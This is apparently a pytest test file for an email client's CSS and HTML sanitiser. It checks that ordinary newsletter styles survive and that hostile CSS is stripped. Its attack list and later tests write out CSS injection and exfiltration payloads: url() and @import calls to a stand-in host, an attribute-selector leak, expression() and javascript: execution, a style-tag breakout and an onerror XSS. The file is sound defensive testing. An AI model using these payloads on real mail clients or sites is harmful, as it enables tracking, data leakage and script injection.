"""css.py and its use in render.py: what a mail's CSS keeps, what goes (counted), and the
bounds. Pure: no sockets (the browser battery is in tests/test_ui.py)."""

from __future__ import annotations

import pytest

from burnbox import css, render

CID = {"logo": "data:image/png;base64,iVBORw0KGgo="}


def squeezed(text: str) -> str:
    """Without white space, one kind of quote: how the serialiser may differ from input."""
    return "".join(text.split()).replace("'", '"')


def clean(text: str, *, remote: bool = False) -> css.Cleaned:
    return css.stylesheet(text, remote_allowed=remote, cid_url=CID.get)


@pytest.mark.parametrize(
    "kept",
    [
        "table.body{width:100%;border-collapse:separate;mso-table-lspace:0pt}",
        ".btn a{background-color:#0867ec;border:solid 2px #0867ec;border-radius:4px}",
        "h1{font:bold 24px/1.2 Helvetica,Arial,sans-serif;color:rgb(20,20,20)}",
        "p{margin:0 0 16px;padding:calc(1px + 2%);text-align:center !important}",
        "@media only screen and (max-width:620px){table.body h1{font-size:28px !important}}",
        "@media (prefers-color-scheme:dark){body{background:linear-gradient(#000,#111)}}",
        "@supports (display:grid){.grid{display:grid;grid-template-columns:repeat(2,1fr)}}",
        "@keyframes pulse{0%{opacity:0}100%{opacity:1}}",
        '@font-face{font-family:x;src:url("data:font/woff2;base64,AAAA") format("woff2")}',
        'u{background:url("data:image/png;base64,AAAA")}',
        "a:not(.x)::before{content:'→';color:var(--brand)}",
    ],
)
def test_ordinary_css_is_kept(kept: str) -> None:
    result = clean(kept)
    assert result.removed == 0, result
    assert squeezed(result.css) == squeezed(kept)


@pytest.mark.parametrize(
    "attack",
    [
        '@import url("https://evil.test/a.css");',
        "@import 'https://evil.test/b.css' screen;",
        "@namespace svg url(http://www.w3.org/2000/svg);",
        "p{background:url(https://evil.test/x.png)}",
        "p{background:url('//evil.test/x.png')}",
        "p{background:\\75 rl(https://evil.test/esc.png)}",
        "p{background:\\000075\\000072\\00006c(https://evil.test/uni.png)}",
        "p{width:expression(alert(1))}",
        "p{width:exp/**/ression(alert(1))}",
        "p{behavior:url(x.htc)}",
        "p{-moz-binding:url(https://evil.test/x.xml#x)}",
        "p{background-image:image-set('https://evil.test/1.png' 1x)}",
        "p{background-image:-webkit-image-set(url(https://evil.test/2.png) 1x)}",
        "p{background:cross-fade(url(a.png),url(b.png),50%)}",
        "p{background:element(#x)}",
        "p::before{content:url(https://evil.test/content.png)}",
        "@font-face{font-family:x;src:url(https://evil.test/f.woff)}",
        "p{background:url(javascript:alert(1))}",
        "p{list-style:'javascript:alert(1)'}",
        "p{cursor:url(https://evil.test/c.cur),auto}",
        "p{border-image:url(https://evil.test/b.png) 30}",
        "p{mask:url(https://evil.test/m.svg)}",
        "p{background:url(data:image/svg+xml,<svg onload=alert(1)>)}",
        "[title^=a]{background:url(https://evil.test/leak?a)}",
        "p{--x:url(https://evil.test/var.png);background:var(--x)}",
    ],
)
def test_anything_that_loads_or_runs_is_removed_and_counted(attack: str) -> None:
    """Removed and counted, or (a remote image) blocked: `none` in its place, and listed."""
    result = clean(attack)
    assert result.removed >= 1 or result.blocked, result
    assert "evil" not in result.css
    assert "expression" not in result.css
    assert "javascript" not in result.css
    assert "url(" not in result.css.replace('url("data:image/png', "")


def test_a_relative_url_loads_nothing_and_the_rest_stays() -> None:
    """A mail has no base URL: where it was written, it loaded nothing."""
    result = clean("p{background:#222 url('images/bg.jpg') no-repeat center/cover}")
    assert result.css == "p{background:#222 none no-repeat center/cover}"
    assert (result.removed, result.blocked) == (0, [])


def test_remote_urls_are_listed_and_kept_only_when_asked() -> None:
    sheet = "p{background:#abc url(https://cdn.test/bg.png) no-repeat}"
    blocked = clean(sheet)
    assert blocked.blocked == ["https://cdn.test/bg.png"]
    # As a browser whose load failed shows it: no image, the rest of the declaration kept.
    assert blocked.css == "p{background:#abc none no-repeat}"
    assert blocked.removed == 0
    sheet = "p{background:url(https://cdn.test/bg.png)}"
    allowed = clean(sheet, remote=True)
    assert allowed.css == 'p{background:url("https://cdn.test/bg.png")}'
    assert allowed.kept_remote == ["https://cdn.test/bg.png"]
    font = clean("@font-face{font-family:x;src:url(https://cdn.test/f.woff)}", remote=True)
    assert font.css == ""  # fonts come only from the message itself


def test_cid_images_point_at_the_message_own_parts() -> None:
    assert clean("p{background:url(cid:logo)}").css == f'p{{background:url("{CID["logo"]}")}}'
    assert clean("p{background:url(cid:unknown)}").removed == 1


def test_nothing_can_end_the_style_element() -> None:
    result = clean('p{content:"</style><script>alert(1)</script>"}')
    assert "<" not in result.css
    assert result.css == 'p{content:"\\3c /style>\\3c script>alert(1)\\3c /script>"}'


def test_the_work_is_bounded() -> None:
    many = clean("a{color:red}" * (css.MAX_RULES + 10))
    assert many.removed == 10
    assert many.css.count("{") == css.MAX_RULES
    deep = clean("@media screen{" * 50 + "p{color:red}" + "}" * 50)
    assert deep.removed >= 1
    assert deep.css.count("@media") <= css.MAX_DEPTH + 1
    nested = clean("p{width:" + "calc(" * 5000 + "1px" + ")" * 5000 + "}")
    assert nested.css == "p{}"
    assert nested.removed == 1
    huge = clean("p{color:red}" + " " * css.STYLE_BUDGET + "q{color:blue}")
    assert "q{" not in huge.css
    assert huge.removed >= 1


def test_style_attributes_are_cleaned_and_bounded_in_all() -> None:
    attribute = 'style="color:red;background:url(https://evil.test/x.png)"'
    rendered = render.sanitise(f"<p {attribute}>x</p>", remote_allowed=False, cid_url=CID.get)
    assert rendered.html == '<p style="color:red;background:none">x</p>'
    assert rendered.styles_removed == 0
    assert rendered.blocked == ["https://evil.test/x.png"]
    scripted = render.sanitise(
        '<p style="color:red;width:expression(alert(1))">x</p>',
        remote_allowed=False,
        cid_url=CID.get,
    )
    assert scripted.html == '<p style="color:red">x</p>'
    assert scripted.styles_removed == 1
    value = "color:red;" * 1000
    many = "".join(f'<p style="{value}">x</p>' for _ in range(css.STYLE_BUDGET // len(value) + 5))
    bounded = render.sanitise(many, remote_allowed=False, cid_url=CID.get)
    assert bounded.styles_removed >= 5  # the attributes past the budget went


def test_a_newsletter_keeps_its_style_block_classes_and_doctype() -> None:
    page = (
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" '
        '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">'
        "<html><head><title>Not shown</title><style>.btn{color:#fff;background:#0867ec}"
        "@import url(https://evil.test/x.css);</style></head>"
        '<body><a class="btn" id="cta" href="https://shop.test/">Buy</a>'
        '<img src="https://cdn.test/logo.png" width="120"></body></html>'
    )
    rendered = render.sanitise(page, remote_allowed=False, cid_url=CID.get)
    assert rendered.html.startswith("<style>.btn{color:#fff;background:#0867ec}</style>")
    assert 'class="btn"' in rendered.html
    assert 'id="cta"' in rendered.html
    assert "Not shown" not in rendered.html
    assert rendered.styles_removed == 1
    assert rendered.doctype.startswith("<!DOCTYPE html PUBLIC")
    # A blocked remote image is broken as a refused load is (its declared box, its alt
    # text), with nothing remote left in it; listed as blocked.
    assert '<img src="data:," width="120">' in rendered.html
    assert set(rendered.blocked) == {"https://evil.test/x.css", "https://cdn.test/logo.png"}


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE html SYSTEM "x>"><img src=x onerror=alert(1)>',
        "<!DOCTYPE html [<!ENTITY x 'y'>]>",
    ],
)
def test_an_odd_doctype_is_dropped(doctype: str) -> None:
    assert (
        render.sanitise(doctype + "<p>x</p>", remote_allowed=False, cid_url=CID.get).doctype == ""
    )
